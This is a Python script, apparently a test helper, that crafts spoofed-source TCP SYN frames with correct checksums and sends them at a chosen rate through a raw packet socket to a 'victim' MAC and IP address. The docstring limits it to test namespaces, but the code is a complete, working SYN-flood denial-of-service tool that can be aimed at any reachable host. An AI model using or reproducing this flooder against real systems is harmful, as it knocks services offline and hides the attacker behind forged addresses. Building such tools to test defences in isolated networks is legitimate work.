#!/usr/bin/env python3
# Sends SYNs from unused addresses at a rate, from an interface of the present namespace.
"""A separate program, so that honest clients are not slowed down. For namespaces that a test has
created: no frame has the sender's address."""
import argparse
import random
import socket
import struct
import sys
import time

FLAG_SYN = 0x02
FIRST_OCTETS = (11, 23, 37, 52, 81, 93)  # of sources: unicast, and not used here


def checksum(octets):
    """The Internet checksum of an even number of octets."""
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(draw, ends, destination, port):
    """A complete frame: a SYN with an MSS, from a random source, port and sequence number."""
    source = bytes([draw.choice(FIRST_OCTETS), draw.randrange(256), draw.randrange(256),
                    draw.randrange(1, 255)])
    segment = struct.pack(">HHIIBBHHHBBH", draw.randrange(1024, 65536), port, draw.getrandbits(32),
                          0, 6 << 4, FLAG_SYN, 64240, 0, 0, 2, 4, 1460)
    pseudo = source + destination + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), draw.getrandbits(16), 0x4000,
                         64, socket.IPPROTO_TCP, 0, source, destination)
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    return ends + struct.pack(">H", 0x0800) + header + segment


def flood(interface, frames, rate):
    """Sends each at its time; a late one follows at once. Returns how many the kernel accepted."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((interface, 0))
        begin, taken = time.monotonic(), 0
        for number, frame in enumerate(frames):
            wait = begin + number / rate - time.monotonic()
            if wait > 0:
                time.sleep(wait)
            try:
                taken += raw.send(frame) == len(frame)
            except OSError:  # no buffer space: lost, as on a wire
                pass
        return taken


def run(about, frame):
    """The program: prints "ready" when all frames are prepared by `frame(draw, ends, destination,
    port)`, begins after a line on stdin, and prints at the end how many the kernel accepted."""
    parser = argparse.ArgumentParser(description=about)
    parser.add_argument("interface")
    parser.add_argument("own_mac")
    parser.add_argument("victim_mac")
    parser.add_argument("victim", help="its IPv4 address")
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=float, required=True, help="frames per second")
    parser.add_argument("--seed", type=int, default=1)
    said = parser.parse_args()
    ends = b"".join(bytes.fromhex(mac.replace(":", "")) for mac in (said.victim_mac, said.own_mac))
    draw = random.Random(said.seed)
    destination = socket.inet_aton(said.victim)
    frames = [frame(draw, ends, destination, said.port) for _ in range(said.count)]
    print("ready", flush=True)
    sys.stdin.readline()
    print(flood(said.interface, frames, said.rate), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(run(__doc__, syn))
